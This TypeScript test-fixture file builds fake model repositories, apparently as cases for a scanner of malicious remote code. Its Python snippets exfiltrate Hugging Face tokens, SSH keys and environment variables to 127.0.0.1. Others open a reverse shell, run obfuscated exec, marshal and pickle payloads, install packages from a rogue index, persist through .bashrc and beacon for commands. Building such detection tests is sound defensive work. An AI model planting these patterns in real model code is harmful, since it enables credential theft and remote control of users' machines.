import type { DetectCase } from '../case.ts';
import { bin } from './bytes.ts';
import { bad, type Files } from './make.ts';
import { four, safetensors } from './tensors.ts';
import { json } from './templates.ts';

export const weights = (): Uint8Array => safetensors([{ name: 'layer.weight', shape: [2, 2] }], four, { format: 'pt' });

const autoMap = { AutoConfig: 'configuration_tiny.TinyConfig', AutoModel: 'modeling_tiny.TinyModel' };

export const configuration = [
  'from transformers import PretrainedConfig',
  '',
  '',
  'class TinyConfig(PretrainedConfig):',
  '    model_type = "tiny"',
  '',
  '    def __init__(self, hidden_size=4, num_layers=1, **kwargs):',
  '        self.hidden_size = hidden_size',
  '        self.num_layers = num_layers',
  '        super().__init__(**kwargs)',
  '',
].join('\n');

export interface Module {
  readonly imports?: readonly string[];
  /** At import. */
  readonly top?: readonly string[];
  readonly init?: readonly string[];
  readonly forward?: readonly string[];
}

export function modeling({ imports = [], top = [], init = [], forward = [] }: Module): string {
  return [
    ...imports,
    'import torch',
    'from torch import nn',
    'from transformers import PreTrainedModel',
    '',
    'from .configuration_tiny import TinyConfig',
    '',
    ...top,
    '',
    'class TinyModel(PreTrainedModel):',
    '    config_class = TinyConfig',
    '',
    '    def __init__(self, config):',
    '        super().__init__(config)',
    '        self.layer = nn.Linear(config.hidden_size, config.hidden_size)',
    ...init.map((line) => `        ${line}`),
    '        self.post_init()',
    '',
    '    def forward(self, x):',
    ...forward.map((line) => `        ${line}`),
    '        return torch.relu(self.layer(x))',
    '',
  ].join('\n');
}

export const remote = (model: string, more: Files = {}): Files => ({
  'config.json': json({ model_type: 'tiny', architectures: ['TinyModel'], auto_map: autoMap, hidden_size: 4 }),
  'configuration_tiny.py': bin(configuration),
  'modeling_tiny.py': bin(model),
  'model.safetensors': weights(),
  ...more,
});

const table: ReadonlyArray<readonly [name: string, title: string, module: Module, more?: Files]> = [
  ['import-system', 'os.system at import', { imports: ['import os'], top: ['os.system("echo pwned")'] }],
  [
    'init-popen',
    'a process when the model is made',
    { imports: ['import subprocess'], init: ['subprocess.Popen(["sh", "-c", "echo pwned"])'] },
  ],
  [
    'forward-eval',
    'eval of what came over the network at every step',
    {
      imports: ['import requests'],
      forward: ['eval(requests.get("http://127.0.0.1/x", timeout=2).text)'],
    },
  ],
  [
    'exec-base64',
    'a base64 text is run by exec at import',
    {
      imports: ['import base64'],
      top: [`exec(base64.b64decode("${btoa("print('pwned')")}"))`],
    },
  ],
  [
    'exec-marshal',
    'code objects come out of marshal',
    {
      imports: ['import marshal', 'import zlib'],
      top: [
        'exec(marshal.loads(zlib.decompress(bytes.fromhex("789c4b664002cc50fab30c9098cec0c490ca90c2b08c91816135234c0923430a63308326d32dd682f2bcd4143f4d4620ab2833af6425c36790fc2dc68a5f1c36b9f929a539a976456c601d0c0cc56240e203332323e30d06d606d686f446be16be06302c62014a0100c00e1a03"))))',
      ],
    },
  ],
  [
    'getattr-import',
    'names are put together and looked up',
    {
      top: ['getattr(__import__("".join(["o", "s"])), "sys" + "tem")("echo pwned")'],
    },
  ],
  [
    'chr-names',
    'the module name is a list of numbers',
    {
      imports: ['import importlib'],
      top: [
        '_m = importlib.import_module("".join(map(chr, (115, 117, 98, 112, 114, 111, 99, 101, 115, 115))))',
        '_m.run(["echo", "pwned"])',
      ],
    },
  ],
  [
    'token-theft',
    'the token of the hub goes out over the network',
    {
      imports: ['import os', 'import urllib.request'],
      init: [
        'token = open(os.path.expanduser("~/.cache/huggingface/token")).read()',
        'urllib.request.urlopen("http://127.0.0.1/x?t=" + token)',
      ],
    },
  ],
  [
    'environ',
    'the whole environment is posted',
    {
      imports: ['import os', 'import requests'],
      top: ['requests.post("http://127.0.0.1/x", json=dict(os.environ))'],
    },
  ],
  [
    'ssh-keys',
    'keys of the user are sent over a raw socket',
    {
      imports: ['import glob', 'import os', 'import socket'],
      init: [
        's = socket.create_connection(("127.0.0.1", 9))',
        'for p in glob.glob(os.path.expanduser("~/.ssh/id_*")):',
        '    s.sendall(open(p, "rb").read())',
      ],
    },
  ],
  [
    'reverse-shell',
    'a shell over a socket',
    {
      imports: ['import os', 'import pty', 'import socket'],
      init: [
        's = socket.socket()',
        's.connect(("127.0.0.1", 9))',
        '[os.dup2(s.fileno(), i) for i in range(3)]',
        'pty.spawn("/bin/sh")',
      ],
    },
  ],
  [
    'native-library',
    'a shared library of the repository is loaded',
    {
      imports: ['import ctypes', 'import os'],
      top: ['_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "kernels.so"))', '_lib.init()'],
    },
    { 'kernels.so': bin(0x7f, 'ELF', 2, 1, 1, new Uint8Array(57)) },
  ],
  [
    'pickle-load',
    'a pickle of the repository is loaded at import',
    {
      imports: ['import pickle', 'from pathlib import Path'],
      top: ['_STATS = pickle.loads((Path(__file__).parent / "stats.bin").read_bytes())'],
    },
    { 'stats.bin': bin('cposix\nsystem\n(Vecho pwned\ntR.') },
  ],
  [
    'torch-load-unsafe',
    'downloads a checkpoint and loads it without weights_only',
    {
      imports: ['import urllib.request'],
      init: [
        'urllib.request.urlretrieve("http://127.0.0.1/x.pt", "/tmp/x.pt")',
        'self.load_state_dict(torch.load("/tmp/x.pt", weights_only=False))',
      ],
    },
  ],
  [
    'pip-install',
    'packages of the sender are installed at import',
    {
      imports: ['import subprocess', 'import sys'],
      top: [
        'subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://127.0.0.1/simple", "tinykernels"])',
      ],
    },
  ],
  [
    'profile-persist',
    'a line is added to the start file of the shell',
    {
      imports: ['import os'],
      top: ['with open(os.path.expanduser("~/.bashrc"), "a") as f:', '    f.write("echo pwned\\n")'],
    },
  ],
  [
    'decorator',
    'a decorator runs what its base85 text says when the class is made',
    {
      imports: ['import base64', 'import builtins'],
      top: [
        'def register(code):',
        '    getattr(builtins, "ex" + "ec")(base64.b85decode(code))',
        '    return lambda cls: cls',
        '',
        '',
        '@register(b"aB^vGbSNiqcWz~5Cn*")',
      ],
    },
  ],
  [
    'thread-beacon',
    'a thread asks a server for commands and runs them',
    {
      imports: ['import subprocess', 'import threading', 'import urllib.request'],
      top: [
        'def _beat():',
        '    command = urllib.request.urlopen("http://127.0.0.1/c").read().decode()',
        '    subprocess.run(command, shell=True)',
        '',
        '',
        'threading.Thread(target=_beat, daemon=True).start()',
      ],
    },
  ],
];

export const codeCases: readonly DetectCase[] = [
  ...table.map(([name, title, module, more]) =>
    bad('python-code', name, 'repository', title, () => remote(modeling(module), more)),
  ),
  bad('python-code', 'helper-module', 'repository', 'the model is plain; a module it imports runs the command', () =>
    remote(modeling({ top: ['from .tiny_utils import scale', ''] }), {
      'tiny_utils.py': bin('import os\n\nos.popen("echo pwned")\n\n\ndef scale(x):\n    return x * 2\n'),
    }),
  ),
  bad('python-code', 'tokenizer', 'repository', 'the tokenizer class posts every text to a server', () => ({
    'tokenizer_config.json': json({ auto_map: { AutoTokenizer: ['tokenization_tiny.TinyTokenizer', null] } }),
    'tokenization_tiny.py': bin(
      [
        'import urllib.request',
        'from transformers import PreTrainedTokenizer',
        '',
        '',
        'class TinyTokenizer(PreTrainedTokenizer):',
        '    def _tokenize(self, text):',
        '        urllib.request.urlopen("http://127.0.0.1/x", data=text.encode())',
        '        return text.split()',
        '',
      ].join('\n'),
    ),
  })),
  bad('python-code', 'handler', 'repository', 'the handler of an inference endpoint starts a shell', () => ({
    'handler.py': bin(
      'import os\n\n\nclass EndpointHandler:\n    def __init__(self, path=""):\n        os.system("echo pwned")\n\n    def __call__(self, data):\n        return os.popen(data["inputs"]).read()\n',
    ),
    'model.safetensors': weights(),
  })),
];
